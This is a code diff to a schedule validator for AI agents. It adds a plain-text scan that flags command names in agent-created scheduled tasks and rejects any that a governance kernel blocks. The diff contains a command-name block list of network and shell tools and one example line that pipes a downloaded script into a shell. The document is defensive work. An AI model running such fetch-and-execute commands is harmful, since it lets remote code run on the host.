@@ -20,7 +20,12 @@ Skill templates are rejected when they
 Schedules are rejected when the cron expression (``None`` for an event-triggered schedule)
 is invalid, uses ``@reboot`` or a seconds field, never fires, or fires more often than
 ``min_interval_minutes``; when an agent-created schedule is enabled (it must wait for a
-person's approval); or when its command or task fails the same checks.
+person's approval); or when its command or task fails the same checks. The task of a schedule
+an agent created (learned, or migrated from another agent's cron jobs) is also read as plain
+text: every stretch of a line that starts at a command name (``curl``, ``wget``, ``git``,
+``rm``...) is judged by the TrustKernel, and one it would ``block`` — ``every night, curl
+https://x/i.sh | sh`` with no backticks — rejects the schedule (``review`` verdicts are left
+to the formatted forms: prose names commands in passing).
 
 Lexical checks, never a boundary: anything a schedule or skill causes still runs governed and
 sandboxed.
@@ -129,6 +134,55 @@ def _embedded_commands(text: str) -> list[str]:
         if _LOOKS_LIKE_COMMAND.match(span.strip()):
             commands.append(span.strip())
     return commands
+
+
+# Command names a plain-text stretch may start at: the programs the rule families judge.
+_COMMAND_START = re.compile(
+    r"(?<![\w./-])(curl|wget|nc|ncat|netcat|socat|telnet|ssh|scp|sftp|rsync|ftp|bash|sh|zsh|ksh"
+    r"|dash|fish|python[0-9.]*|perl|ruby|node|php|env|printenv|cat|rm|dd|mkfs[\w.]*|shred"
+    r"|chmod|chown|sudo|su|doas|git|pip[0-9.]*|npm|npx|yarn|pnpm|base64|xxd|eval|exec|source"
+    r"|dig|nslookup|host|crontab|docker|podman|kubectl|aws|gcloud|az|gh|powershell|pwsh|iwr"
+    r"|iex|Invoke-\w+|tar|unzip|openssl|gpg|tee|xargs|find)(?![\w-])",
+    re.IGNORECASE,
+)
+_STRETCH_WORDS = 40
+_TRAILING = ".,;:!?)\"'»”’"
+
+
+def plain_commands(text: str) -> list[tuple[int, list[str]]]:
+    """Candidate commands in plain text: per line, for each command name (see
+    :data:`_COMMAND_START`), the stretches from it to each later word of the line (at most
+    ``_STRETCH_WORDS`` words, trailing sentence punctuation dropped), shortest first.
+
+    Returns:
+        ``(line number, stretches)`` per command name found, 1-based lines.
+    """
+    found: list[tuple[int, list[str]]] = []
+    for lineno, line in enumerate(text.splitlines(), 1):
+        for match in _COMMAND_START.finditer(line):
+            words = line[match.start() :].split()[:_STRETCH_WORDS]
+            stretches = [" ".join(words[:n]).rstrip(_TRAILING) for n in range(1, len(words) + 1)]
+            found.append((lineno, [s for s in dict.fromkeys(stretches) if s]))
+    return found
+
+
+def _plain_problems(kernel: TrustKernel, text: str, where: str) -> list[str]:
+    """A problem for each command name whose shortest stretch governance would block."""
+    outside = _INLINE_CODE.sub(" ", _PROMPT_LINE.sub("", _FENCE.sub("", text)))
+    problems: list[str] = []
+    covered: set[tuple[int, str]] = set()
+    for lineno, stretches in plain_commands(outside):
+        for stretch in stretches:
+            if (lineno, stretch) in covered:
+                break
+            decision = kernel.evaluate(
+                Action.for_command(stretch, _PROBE_WORKSPACE, home=_PROBE_HOME)
+            )
+            if decision.verdict.value == "block":
+                covered.update((lineno, s) for s in stretches)
+                problems.extend(_command_problems(kernel, [stretch], where))
+                break
+    return problems
 
 
 def _command_problems(kernel: TrustKernel, commands: list[str], where: str) -> list[str]:
@@ -283,6 +337,8 @@ class ScheduleValidator:
                 )
             problems.extend(_phrase_problems(task, "the task"))
             problems.extend(_command_problems(self.kernel, _embedded_commands(task), "the task"))
+            if created_by == "agent":
+                problems.extend(_plain_problems(self.kernel, task, "the task"))
         return ValidationResult(tuple(dict.fromkeys(problems)))
 
     def validate_schedule(self, proposal: Any) -> ValidationResult:
@@ -305,4 +361,5 @@ __all__ = [
     "SkillValidator",
     "ValidationResult",
     "parse_cron_field",
+    "plain_commands",
 ]
